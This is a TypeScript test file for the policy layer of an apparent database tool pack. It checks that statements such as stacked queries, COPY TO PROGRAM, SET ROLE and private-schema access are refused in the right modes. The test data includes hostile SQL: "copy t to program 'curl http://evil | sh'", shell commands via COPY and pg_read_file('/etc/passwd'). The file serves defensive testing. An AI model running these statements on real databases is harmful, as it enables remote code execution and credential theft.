import { beforeAll, describe, expect, it } from 'vitest';
import { classifyStatement, loadParser, StatementRejected } from '../../src/handlers/kinds/database/classify.ts';
import { candidatesOf, indexDefinition } from '../../src/handlers/kinds/database/index-candidates.ts';
import type { DatabaseMode } from '../../src/handlers/kinds/database/modes.ts';
import { explainRefusal, refusalReason } from '../../src/handlers/kinds/database/policy.ts';

// The first wall of the database tool pack: statement kinds and schema references from the real PostgreSQL parser
// (libpg-query), never from the text. Hostile statements: several in one string, data-modifying CTEs, volatile and
// dangerous functions, COPY … PROGRAM, SET ROLE, comments, quoting and escape tricks, names outside public.
// (The second wall, the READ ONLY transaction, is tested on real databases in database-pack.test.ts.)

const MODES: DatabaseMode[] = ['user_ro', 'user_rw', 'admin_ro', 'admin_rw'];

beforeAll(() => loadParser());

/** Which modes accept the statement. */
function acceptedBy(sql: string): DatabaseMode[] {
  const statement = classifyStatement(sql);
  return MODES.filter((mode) => refusalReason(statement, mode) === undefined);
}

function reason(sql: string, mode: DatabaseMode): string {
  return refusalReason(classifyStatement(sql), mode) ?? 'accepted';
}

describe('database pack: one statement per call', () => {
  it.each([
    ['select 1; select 2', 2],
    ['select 1; delete from t', 2],
    ['select 1;delete from t;', 2],
    ["select ';'; delete from t", 2],
    ['select 1 /* ; */; delete from t -- ;', 2],
  ])('%j is refused: %i statements', (sql, count) => {
    expect(() => classifyStatement(sql)).toThrow(StatementRejected);
    expect(() => classifyStatement(sql)).toThrow(`this text has ${count}`);
  });

  it.each([
    'select 1; -- ',
    'select 1; -- ; delete from t',
    "select '/* ; */' /* ; delete from t; */",
    'select $$; delete from t; $$',
    'select $tag$ ; drop table t $tag$',
    "select E'\\'; delete from t; --'",
    'select 1 -- delete from t',
  ])('%j is ONE read: semicolons in comments, strings and dollar quotes do not split it', (sql) => {
    const statement = classifyStatement(sql);
    expect(statement.kind).toBe('read');
    expect(acceptedBy(sql)).toEqual(MODES);
  });

  it('the statement text is cut at its own end (the parser counts UTF-8 bytes): what explain_query wraps', () => {
    expect(classifyStatement("select 'é€😀' as x; -- trailing").text).toBe("select 'é€😀' as x");
    expect(classifyStatement('  /* lead */ select 1  ').text).toBe('select 1');
  });

  it('empty and comment-only text, and syntax errors, are refused with the reason', () => {
    expect(() => classifyStatement('-- nothing')).toThrow('no SQL statement');
    expect(() => classifyStatement('   ')).toThrow(StatementRejected);
    expect(() => classifyStatement('selec 1')).toThrow(/syntax error at character 1/);
    expect(() => classifyStatement('select 1 /* unterminated')).toThrow(StatementRejected);
  });
});

describe('database pack: statement kinds', () => {
  it.each([
    ['select * from t', 'read'],
    ['values (1), (2)', 'read'],
    ['table t', 'read'],
    ['show work_mem', 'read'],
    ['explain select * from t', 'read'],
    ['explain delete from t', 'read'],
    ['explain analyze select * from t', 'read'],
    ['explain (analyze false) delete from t', 'read'],
    ['explain analyze delete from t', 'dml'],
    ['explain (analyze, format json) update t set a = 1', 'dml'],
    ['insert into t values (1)', 'dml'],
    ['update t set a = 1', 'dml'],
    ['delete from t', 'dml'],
    ['merge into t using s on t.id = s.id when matched then delete', 'dml'],
    ['with d as (delete from t returning *) select * from d', 'dml'],
    ['select * from (select 1) s, lateral (with x as (insert into t values (1) returning *) select * from x) y', 'dml'],
    ['select * from t for update', 'dml'],
    ['select * into t2 from t', 'ddl'],
    ['create table t2 (a int)', 'ddl'],
    ['drop table t', 'ddl'],
    ['alter table t add column b int', 'ddl'],
    ['truncate t', 'ddl'],
    ['create index on t (a)', 'ddl'],
    ['grant select on t to public', 'dcl'],
    ['create role r', 'dcl'],
    ['set work_mem = 1', 'utility'],
    ['begin', 'utility'],
    ["copy t to program 'id'", 'utility'],
    ['do $$ begin delete from t; end $$', 'utility'],
    ['call p()', 'utility'],
    ['vacuum t', 'utility'],
    ['lock table t', 'utility'],
  ])('%j is %s', (sql, kind) => {
    expect(classifyStatement(sql).kind).toBe(kind);
  });
});

describe('database pack: what each mode accepts', () => {
  it('DELETE, UPDATE, INSERT: user_rw and admin_rw only, with a clear message', () => {
    for (const sql of ['delete from t', 'update t set a = 1', 'insert into t values (1)', 'merge into t using s on t.id = s.id when matched then delete']) {
      expect(acceptedBy(sql), sql).toEqual(['user_rw', 'admin_rw']);
    }
    expect(reason('delete from t', 'user_ro')).toBe(
      'DELETE refused: the statement is a data-modifying statement (DML); user_ro runs only reads (SELECT, VALUES, SHOW, EXPLAIN)',
    );
  });

  it('WITH … DELETE looks like a SELECT but is refused by the read-only modes', () => {
    const sql = 'with gone as (delete from orders returning *) select count(*) from gone';
    expect(acceptedBy(sql)).toEqual(['user_rw', 'admin_rw']);
    expect(reason(sql, 'user_ro')).toMatch(/a WITH clause that modifies data/);
    // Hidden deeper: in a subquery's CTE.
    expect(acceptedBy('select * from (with d as (delete from t returning id) select id from d) s')).toEqual(['user_rw', 'admin_rw']);
  });

  it('DDL and DCL: admin_rw only', () => {
    for (const sql of ['create table t2 (a int)', 'drop table t', 'select * into t2 from t', 'grant select on t to public', 'truncate t']) {
      expect(acceptedBy(sql), sql).toEqual(['admin_rw']);
    }
  });

  it('SELECT … FOR UPDATE locks rows: refused by *_ro', () => {
    expect(acceptedBy('select * from t for update')).toEqual(['user_rw', 'admin_rw']);
    expect(reason('select * from t for share', 'admin_ro')).toMatch(/locks rows/);
  });

  it('EXPLAIN ANALYZE runs the statement: only where the statement itself may run', () => {
    expect(acceptedBy('explain analyze delete from t')).toEqual(['user_rw', 'admin_rw']);
    expect(reason('explain analyze delete from t', 'admin_ro')).toMatch(/EXPLAIN ANALYZE, which runs the DELETE/);
    expect(acceptedBy('explain analyze select * from t')).toEqual(MODES);
    // explain_query without ANALYZE only plans: a DELETE may be explained in read-only modes, never run.
    const remove = classifyStatement('delete from t');
    expect(explainRefusal(remove, 'user_ro', false)).toBeUndefined();
    expect(explainRefusal(remove, 'user_ro', true)).toMatch(/DELETE refused/);
    expect(explainRefusal(classifyStatement('delete from private.t'), 'user_ro', false)).toMatch(/private\.t, outside the "public" schema/);
    expect(explainRefusal(classifyStatement('vacuum t'), 'admin_rw', false)).toMatch(/cannot be explained/);
  });

  it('COPY … TO PROGRAM, COPY to a file and COPY to the client are refused in every mode', () => {
    for (const sql of [
      "copy t to program 'curl http://evil | sh'",
      "copy t from program 'id'",
      "copy t to '/tmp/x'",
      'copy t to stdout',
      "copy (select 1) to program 'id'",
    ]) {
      expect(acceptedBy(sql), sql).toEqual([]);
    }
    expect(reason("copy t to program 'id'", 'admin_rw')).toMatch(/runs a shell command on the database server/);
  });

  it('SET ROLE, SET SESSION AUTHORIZATION, RESET ROLE and session-level SET are refused in every mode', () => {
    for (const sql of [
      'set role postgres',
      'SET SESSION AUTHORIZATION postgres',
      'reset role',
      'reset all',
      'set search_path = private',
      'set session work_mem = 1',
    ]) {
      expect(acceptedBy(sql), sql).toEqual([]);
    }
    expect(reason('set role postgres', 'admin_rw')).toMatch(/changes the session's role/);
    // SET LOCAL lasts for the call: admin_rw only.
    expect(acceptedBy('set local role postgres')).toEqual(['admin_rw']);
    expect(acceptedBy('set local statement_timeout = 1')).toEqual(['admin_rw']);
  });

  it('transaction control and statements that leave state on the shared connection are refused in every mode', () => {
    for (const sql of [
      'begin',
      'commit',
      'rollback',
      'savepoint s',
      'prepare p as select 1',
      'listen ch',
      'discard all',
      'create temp table x (a int)',
      'declare c cursor with hold for select 1',
    ]) {
      expect(acceptedBy(sql), sql).toEqual([]);
    }
    expect(reason('commit', 'admin_rw')).toMatch(/each call runs in its own transaction/);
  });

  it('DO and CALL run arbitrary code: admin_rw only', () => {
    expect(acceptedBy('do $$ begin perform 1; end $$')).toEqual(['admin_rw']);
    expect(acceptedBy('call some_procedure()')).toEqual(['admin_rw']);
  });

  it('dangerous functions are refused everywhere but admin_rw, however they are written', () => {
    for (const sql of [
      'select pg_terminate_backend(123)',
      'select pg_catalog.pg_cancel_backend(1)',
      'select "pg_catalog"."pg_read_file"(\'/etc/passwd\')',
      "select * from pg_ls_dir('.')",
      "select lo_import('/etc/passwd')",
      "select * from dblink('host=x', 'delete from t') as x(a int)",
      "select set_config('role', 'postgres', false)",
      'select pg_reload_conf()',
      "select query_to_xml('delete from t returning *', true, true, '')",
      "select * from ts_stat('select 1')",
      'select pg_advisory_lock(1)',
      'select (select pg_terminate_backend(pid) from pg_stat_activity limit 1)',
      "select 1 where exists (select pg_read_binary_file('/x'))",
      'with x as (select pg_terminate_backend(1)) select * from x',
      'select "PG_TERMINATE_BACKEND"(1)',
    ]) {
      const accepted = acceptedBy(sql);
      // Quoted upper case is another function (not found by Postgres); the check compares case-insensitively anyway.
      expect(accepted, sql).toEqual(['admin_rw']);
    }
    expect(reason('select pg_terminate_backend(1)', 'admin_ro')).toMatch(/calls pg_terminate_backend\(\)/);
  });

  it('a volatile function the list does not know passes the parser: the READ ONLY transaction is the second wall', () => {
    // nextval() writes: the database refuses it with SQLSTATE 25006 in *_ro (database-pack.test.ts).
    expect(classifyStatement("select nextval('orders_id_seq')").kind).toBe('read');
    expect(acceptedBy("select nextval('orders_id_seq')")).toEqual(MODES);
  });
});

describe('database pack: user modes see only the public schema', () => {
  const userModes: DatabaseMode[] = ['user_ro', 'user_rw'];

  it('"public"."t", public.t and unqualified names are accepted; private.t is not, however it is spelled', () => {
    for (const sql of [
      'select * from t',
      'select * from public.t',
      'select * from "public"."t"',
      'select * from public . t',
      'select * from /* x */ public/**/./**/t',
    ]) {
      expect(acceptedBy(sql), sql).toEqual(MODES);
    }
    for (const sql of [
      'select * from private.t',
      'select * from "private".t',
      'select * from private . "t"',
      'select * from/**/private/**/./**/t',
      'select * from U&"\\0070rivate".t',
      'select * from "Public".t',
      'select * from public.t join private.t p on true',
      'select * from t where id in (select id from private.t)',
      'select * from (select * from private.t) s',
      'with x as (select * from private.t) select * from x',
      'select * from t, lateral (select * from private.t where private.t.id = t.id) s',
      'select (select secret from private.t limit 1)',
      'update t set a = (select a from private.t limit 1)',
      'insert into private.t values (1)',
      'delete from private.t',
      'select * from otherdb.public.t',
    ]) {
      for (const mode of userModes) expect(reason(sql, mode), `${mode}: ${sql}`).not.toBe('accepted');
      expect(
        acceptedBy(sql).filter((mode) => mode.startsWith('user')),
        sql,
      ).toEqual([]);
    }
    expect(reason('select * from private.t', 'user_ro')).toBe(
      'SELECT refused: it reads or writes private.t, outside the "public" schema; only objects in "public" are visible in this mode',
    );
  });

  it('information_schema.schemata and the system catalogs are refused, qualified or not', () => {
    for (const sql of [
      'select * from information_schema.schemata',
      'select * from information_schema.tables',
      'select * from pg_catalog.pg_class',
      'select * from pg_class',
      'select * from pg_authid',
      'select * from "pg_stat_activity"',
    ]) {
      expect(acceptedBy(sql), sql).toEqual(['admin_ro', 'admin_rw']);
    }
    expect(reason('select * from information_schema.schemata', 'user_ro')).toMatch(/information_schema\.schemata, outside the "public" schema/);
  });

  it('functions and types of other schemas, name lookups and reg* casts are refused in user modes', () => {
    for (const sql of [
      'select private.f()',
      "select 'private.t'::regclass",
      "select to_regclass('private.t')",
      'select pg_get_viewdef(16384)',
      "select cast('x' as private.mytype)",
    ]) {
      expect(acceptedBy(sql), sql).toEqual(['admin_ro', 'admin_rw']);
    }
    // Built-in functions and types, qualified with pg_catalog or not, are fine.
    expect(acceptedBy('select pg_catalog.lower(x::text)::pg_catalog.text, count(*), now()::date from t group by 1')).toEqual(MODES);
  });
});

describe('database pack: index candidates from the parse tree', () => {
  it('WHERE equality and range columns, join keys and ORDER BY, per table alias; composite equality-then-range', () => {
    const statement = classifyStatement(
      'select o.id from orders o join customers c on c.id = o.customer_id where o.status = $1 and o.created_at > now() and c.region in ($2, $3) order by o.created_at desc',
    );
    const columns: Record<string, string[]> = { orders: ['id', 'customer_id', 'status', 'created_at'], customers: ['id', 'region'] };
    const candidates = candidatesOf(statement.tree, (table) => columns[table.name]).map(indexDefinition);
    expect(candidates).toEqual(
      expect.arrayContaining([
        'CREATE INDEX ON "orders" ("status")',
        'CREATE INDEX ON "orders" ("created_at")',
        'CREATE INDEX ON "orders" ("customer_id")',
        'CREATE INDEX ON "orders" ("status", "created_at")',
        'CREATE INDEX ON "customers" ("region")',
      ]),
    );
  });

  it('unqualified columns are placed by the tables that have them; unknown columns are left out', () => {
    const statement = classifyStatement('select * from orders, customers where customer_id = 4 and region = $1 and nosuch = 1');
    const columns: Record<string, string[]> = { orders: ['customer_id'], customers: ['region'] };
    expect(candidatesOf(statement.tree, (table) => columns[table.name]).map(indexDefinition)).toEqual([
      'CREATE INDEX ON "orders" ("customer_id")',
      'CREATE INDEX ON "customers" ("region")',
    ]);
  });
});
